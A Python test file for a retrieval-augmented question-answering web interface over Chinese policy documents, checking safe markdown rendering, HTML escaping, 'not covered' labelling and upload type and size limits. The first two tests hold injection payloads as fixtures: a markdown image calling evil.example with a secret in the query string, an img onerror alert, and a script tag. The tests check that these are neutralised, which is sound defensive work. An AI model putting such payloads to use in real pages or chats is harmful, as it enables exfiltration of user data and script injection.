"""What the web page shows, without a browser: safe rendering, eligibility, comparison, uploads."""
from __future__ import annotations

import re

import pytest

from rag.apps import views as ui
from rag.core.errors import RagError
from rag.core.model import Answer, Citation


def test_document_text_cannot_become_a_link_image_or_html_in_the_chat():
    hostile = "见![x](http://evil.example/?q=secret) <img src=x onerror=alert(1)> [点此](http://evil.example) [1]"
    out = ui.safe_markdown(hostile)
    assert not re.search(r"(?<!\\)[<>]", out) and not re.search(r"(?<!\\)\]\(", out)
    assert not re.search(r"(?<!\\)!(?=\\?\[)", out)  # no image syntax left
    assert out.endswith("[1]")


def test_clause_view_escapes_html_and_highlights_the_quoted_sentence():
    cite = Citation(1, "d", "某方案<script>", "某地", "一、 > 1.", "一、1", "<script>alert(1)</script>按至少70%的比例划归成果完成人。")
    page = ui.clause_html(cite, "根据《某方案》一、1：“按至少70%的比例划归成果完成人。”[1]")
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "<mark>按至少70%的比例划归成果完成人</mark>" in page


def test_not_covered_answer_is_marked_apart_from_an_answer():
    related = [Citation(1, "d", "某方案", "某地", "一、", "一、", "文本")]
    text = ui.answer_markdown(Answer("文件未涉及这一问题。", [], True, related))
    assert text.startswith("**【文件未涉及】") and "Related clauses (not cited)" in text


def test_uploads_are_type_and_size_checked_and_kept_in_the_upload_folder(tmp_path, monkeypatch):
    from rag.core.config import Settings

    settings = Settings(data_dir=tmp_path / "data")
    bad = tmp_path / "run.exe"
    bad.write_bytes(b"MZ")
    big = tmp_path / "big.txt"
    big.write_text("长" * 100, encoding="utf-8")
    monkeypatch.setattr(ui, "MAX_UPLOAD_BYTES", 50)
    status = ui.ingest_upload([str(bad), str(big)], settings)
    assert "run.exe" in status and "unsupported type" in status and "over" in status
    assert not list((tmp_path / "data" / "uploads").iterdir())
    with pytest.raises(RagError):
        ui.ingest_upload([], settings)


@pytest.mark.slow
def test_uploaded_document_is_searchable_at_once(indexed_settings, tmp_path):
    from rag.pipeline.asking import answer

    doc = tmp_path / "白石市促进科技成果转移转化实施办法.txt"
    doc.write_text("白石市促进科技成果转移转化实施办法\n\n一、收益分配\n"
                   "1.职务科技成果转化所得净收入，按不低于80%的比例奖励成果完成人及其团队。\n", encoding="utf-8")
    settings = indexed_settings.with_overrides(data_dir=tmp_path / "data")
    import shutil

    shutil.copytree(indexed_settings.data_dir, settings.data_dir)
    status = ui.ingest_upload([str(doc)], settings)
    assert status.startswith("已导入") and (settings.data_dir / "uploads" / doc.name).is_file()
    result = answer("白石市成果完成人的奖励比例是多少？", settings=settings)
    assert "80%" in result.text and result.citations[0].region == "白石市"


